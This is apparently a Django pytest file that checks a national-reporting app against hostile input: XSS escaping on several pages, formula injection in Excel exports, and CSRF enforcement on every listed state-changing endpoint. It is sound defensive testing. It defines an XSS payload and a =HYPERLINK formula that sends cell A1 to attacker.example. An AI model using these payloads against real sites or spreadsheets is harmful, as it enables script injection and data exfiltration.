"""Hostile input: CSRF on every state-changing endpoint, hostile answers escaped on every page
that shows answers, and answers that look like formulas exported as text."""

from __future__ import annotations

import io
import json
import random

import pytest
from django.test import Client
from openpyxl import load_workbook

from cpbtracker.reporting.demo import demo_answers
from cpbtracker.reporting.models import NationalReport, ReportingCycle, ReportVersion
from cpbtracker.reporting.questionnaire import load_questionnaire
from cpbtracker.reporting.services import open_draft, save_answers, submit_report

pytestmark = pytest.mark.django_db
HOSTILE = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def kenya_draft(personas) -> ReportVersion:
    return open_draft(personas.kenya, ReportingCycle.objects.get(number=5), user=personas.ke_nfp)


def hostile_answers() -> dict:
    answers = demo_answers(load_questionnaire("cpbNationalReport5"), random.Random(11), 0.7)
    answers["Q013"] = {"value": {"en": HOSTILE}}
    answers["Q009"] = {"value": "true.some", "additionalInformation": {"en": HOSTILE}}
    return answers


def assert_escaped(page: str) -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page


# -- escaping ---------------------------------------------------------------------------------


def test_hostile_answers_are_escaped_on_the_draft_form(client, personas):
    save_answers(kenya_draft(personas), hostile_answers(), user=personas.ke_nfp)
    client.force_login(personas.ke_user)
    assert_escaped(client.get("/reports/KE/5/edit/Article2/").content.decode())


def test_hostile_answers_are_escaped_on_the_published_report(client, personas):
    draft = kenya_draft(personas)
    save_answers(draft, hostile_answers(), user=personas.ke_nfp)
    submit_report(draft, user=personas.ke_nfp)
    assert_escaped(client.get("/reports/KE/5/").content.decode())
    assert_escaped(client.get("/reports/KE/5/print/").content.decode())


def test_hostile_cells_of_a_workbook_are_escaped_in_the_error_messages(client, personas):
    kenya_draft(personas)
    client.force_login(personas.ke_user)
    workbook = load_workbook(io.BytesIO(client.get("/reports/KE/5/offline/").content))
    row = next(r for r in workbook["report"].iter_rows(min_row=2) if r[0].value == "Q007")
    row[6].value = HOSTILE
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "report.xlsx"
    response = client.post("/reports/KE/5/offline/", {"workbook": buffer})
    assert_escaped(client.get(response["Location"]).content.decode())


# -- formula injection ------------------------------------------------------------------------


def test_a_text_answer_that_looks_like_a_formula_is_exported_as_text(client, personas):
    draft = kenya_draft(personas)
    save_answers(
        draft,
        {"Q013": FORMULA, "Q009": {"value": "true.some", "additionalInformation": "@SUM(A1)"}},
        user=personas.ke_nfp,
    )
    client.force_login(personas.ke_user)
    workbook = load_workbook(io.BytesIO(client.get("/reports/KE/5/offline/").content))
    cells = {r[0].value: r for r in workbook["report"].iter_rows(min_row=2)}
    assert (cells["Q013"][6].data_type, cells["Q013"][6].value) == ("s", FORMULA)
    assert (cells["Q009"][7].data_type, cells["Q009"][7].value) == ("s", "@SUM(A1)")
    assert not [c for row in workbook["report"].iter_rows() for c in row if c.data_type == "f"]


# -- CSRF -------------------------------------------------------------------------------------


def state_changes(personas) -> list[tuple[object, str, str, dict]]:
    """(user, method, url, data) of every state-changing endpoint of national reporting, the
    clearing-house records and the capacity-building initiatives."""
    return [
        (personas.ke_user, "post", "/reports/KE/5/edit/", {}),
        (
            personas.ke_user,
            "post",
            "/reports/KE/5/edit/Article2/",
            {"Q007": "implementation.none", "revision": "1"},
        ),
        (personas.ke_nfp, "post", "/reports/KE/5/submit/", {}),
        (personas.secretariat, "post", "/reports/KE/4/reopen/", {}),
        (personas.ke_user, "post", "/reports/KE/5/offline/", {}),
        (personas.ke_user, "patch", "/api/v1/drafts/KE/5/", {"answers": {"Q013": "x"}}),
        (personas.ke_nfp, "post", "/api/v1/drafts/KE/5/", {}),
        (personas.ke_user, "post", "/reports/KE/5/request-publication/", {}),
        (personas.ke_nfp, "post", "/reports/KE/5/requests/1/", {"decision": "approve"}),
        (personas.ke_user, "post", "/records/new/database/", {}),
        (personas.ke_user, "post", "/records/ANY/edit/", {}),
        (personas.ke_user, "post", "/records/ANY/request/", {}),
        (personas.ke_nfp, "post", "/records/ANY/publish/", {}),
        (personas.secretariat, "post", "/capacity/initiatives/tag/", {}),
        (personas.ke_user, "post", "/capacity/initiatives/new/", {}),
        (personas.ke_user, "post", "/accounts/logout/", {}),
    ]


def snapshot() -> list:
    return [
        (v.report_id, v.number, v.status, v.revision, sorted(v.answers_dict()))
        for v in ReportVersion.objects.order_by("pk")
    ]


def test_every_state_changing_endpoint_refuses_a_request_without_csrf_token(personas):
    draft = kenya_draft(personas)
    save_answers(draft, hostile_answers(), user=personas.ke_nfp)
    before = snapshot()
    for user, method, url, data in state_changes(personas):
        client = Client(enforce_csrf_checks=True)
        client.force_login(user)
        if method == "patch":
            response = client.patch(url, json.dumps(data), content_type="application/json")
        else:
            response = client.post(url, data)
        assert response.status_code == 403, (method, url)
        assert "_auth_user_id" in client.session  # still signed in: logout refused too
    assert snapshot() == before
    assert NationalReport.objects.count() == 1


def test_the_login_form_needs_a_csrf_token(personas):
    client = Client(enforce_csrf_checks=True)
    response = client.post("/accounts/login/", {"username": "ke-user", "password": "x"})
    assert response.status_code == 403
